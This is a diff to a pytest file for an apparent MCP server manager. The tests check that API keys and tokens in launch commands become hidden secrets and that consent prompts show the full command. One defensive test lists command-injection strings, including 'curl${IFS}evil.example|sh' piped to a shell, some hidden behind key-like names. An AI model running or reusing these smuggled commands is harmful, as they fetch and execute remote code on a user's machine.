@@ -10,6 +10,7 @@ from pathlib import Path
 import psutil
 import pytest
 
+from pilothouse.mcp.consent import look, shown
 from pilothouse.mcp.entries import slot_name
 from pilothouse.mcp.forms import drafted
 from pilothouse.mcp.recognising import readable
@@ -51,6 +52,19 @@ FORMS = [
     ("docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN=abcd1234 ghcr.io/github/server", "abcd1234"),
     ("env OPENAI_API_KEY=abcd1234 python3 s.py", "abcd1234"),
     ('npx -y @smithery/cli run x --config \'{"apiKey":"abcd1234efgh"}\'', "abcd1234efgh"),
+    ("npx mcp-remote https://example.com/mcp '--header=Authorization: Bearer abcd1234efgh'", "abcd1234efgh"),
+    ("npx -y srv '--token=Bearer abcd1234efgh'", "abcd1234efgh"),
+    ("npx -y srv api_key:abcd1234efgh", "abcd1234efgh"),
+    ("npx -y srv -k Zq8xK2mWv5Tn7Rb4Lp1Yd9Hs", "Zq8xK2mWv5Tn7Rb4Lp1Yd9Hs"),
+    ("docker run -i --rm --env=GITHUB_TOKEN=abcd1234 ghcr.io/github/server", "abcd1234"),
+    ("uvx srv 'host=localhost user=u password=abcd1234 dbname=x'", "abcd1234"),
+    ("bash -c 'export API_KEY=abcd1234; exec node s.js'", "abcd1234"),
+    ("bash -c 'exec srv --token abcd1234 --verbose'", "abcd1234"),
+    ("uvx srv https://0123456789abcdef0123456789abcdef@errors.example.com/1", "0123456789abcdef0123456789abcdef"),
+    (
+        "npx mcp-remote https://example.com/s/ZmE5YTQxYmItNGU2Zi00YzJkQWJDZDEyMzQ1Njc4OTA/mcp",
+        "ZmE5YTQxYmItNGU2Zi00YzJkQWJDZDEyMzQ1Njc4OTA",
+    ),
     *((f"npx -y srv {key}", key) for key in KEYS),
     *((f"bash -c 'TOKEN={key} exec srv'", key) for key in KEYS[:2]),
     (f"https://user:{'pa55word'}@example.com/mcp", "pa55word"),
@@ -76,6 +90,10 @@ HONEST = [
     'python3 -m srv --config \'{"keyboard":"us","tokenLimit":"4000"}\' --note \'token: none\'',
     "npx -y srv --secret --verbose --password",
     "npx -y key-value-store-server-v2 --cache-key products",
+    "npx -y srv --public-key MCowBQYDK2VwAyEAGb9ECWmEzf6FQbrBZ9w7lshQhqowtrbLDFw4rXAxZuE=",
+    "npx -y srv -p 8080 -t stdio -k name",
+    "bash -c 'exec srv --keyboard us --token-limit 4000 --key id'",
+    "npx -y srv ssh://git@github.com/me/srv https://me@example.com/x",
     "https://example.com/mcp?key=docs&version=2",
     "https://example.com/projects/0123456789abcdef0123456789abcdef/my-very-long-descriptive-endpoint-name-2/mcp",
 ]
@@ -100,6 +118,26 @@ def test_what_only_sounds_like_a_key_stays_as_it_is(line: str) -> None:
         assert shlex.split(line)[-len(entry.config.args) :] == list(entry.config.args) or not entry.config.args
     else:
         assert entry.config.url == line
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "API_TOKEN=x;curl${IFS}evil.example|sh",
+        "--token=x;evil",
+        "PASSWORD=`evil` srv",
+        "srv --password $(evil)",
+        "curl postgres://user:x;evil;@host",
+        "srv?token=x|evil",
+        "token: x&evil",
+        "-----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n-----END PRIVATE KEY-----",
+    ],
+)
+@pytest.mark.case("SPAWN-01")
+def test_code_does_not_hide_behind_the_name_of_a_key_in_what_a_person_agrees_to(code: str) -> None:
+    draft = drafted(ServerInput(command="bash", args=("-c", code)), "one")
+    assert draft.entry.config.args == ("-c", code)
+    assert shown(draft.entry, look(draft.entry), None).argv[-1].count("evil") == code.count("evil")
 
 
 def test_keys_in_variables_and_headers_that_were_given_as_plain_text_become_secrets() -> None:
@@ -131,8 +169,13 @@ def scripted(*more: str, record: Path) -> ServerInput:
     return ServerInput(name="Vault", command=sys.executable, args=(str(SCRIPTED), "--record", str(record), *more))
 
 
+def holders(home: Path) -> list[str]:
+    """Return the names of the files that the key stands in."""
+    return [path.name for path in home.rglob("*") if path.is_file() and TOKEN.encode() in path.read_bytes()]
+
+
 def check_hidden(home: Path, *told: object) -> None:
-    assert not [path for path in home.rglob("*") if path.is_file() and TOKEN.encode() in path.read_bytes()]
+    assert not holders(home)
     assert not [each for each in told if TOKEN.encode() in encode(each)]
 
 
@@ -141,6 +184,8 @@ async def started_with(hosted: Hosted, server_id: str) -> str:
     view = next(one for one in (await hosted.admin.list()).servers if one.id == server_id)
     if view.consent is not None:
         await hosted.admin.consent(server_id, ConsentGiven(fingerprint=view.consent.fingerprint))
+    else:
+        await hosted.admin.retry(server_id)
     await hosted.call_when_known("vault.echo", {"text": "x"})
     view = await hosted.until("Vault", "connected")
     assert view.process is not None
@@ -200,8 +245,10 @@ async def test_a_key_that_a_person_wrote_into_the_file_is_shown_nowhere_and_move
         assert now.address.endswith("--access-token '${secret:access-token}'")
         assert TOKEN in await started_with(hosted, added.id)
         told += [await hosted.admin.log(added.id)]
+        assert all("config" in name for name in holders(home)), "the consent is to the command with the slot"
         body = ServerInput(name="Vault", command_line=now.address)
-        await hosted.admin.update(added.id, body)
+        moved = await hosted.admin.update(added.id, body)
+        assert moved.consent is None, "it is the command that was agreed to"
         assert TOKEN in await started_with(hosted, added.id)
         told += [await hosted.admin.list()]
     check_hidden(home / "logs", *told)
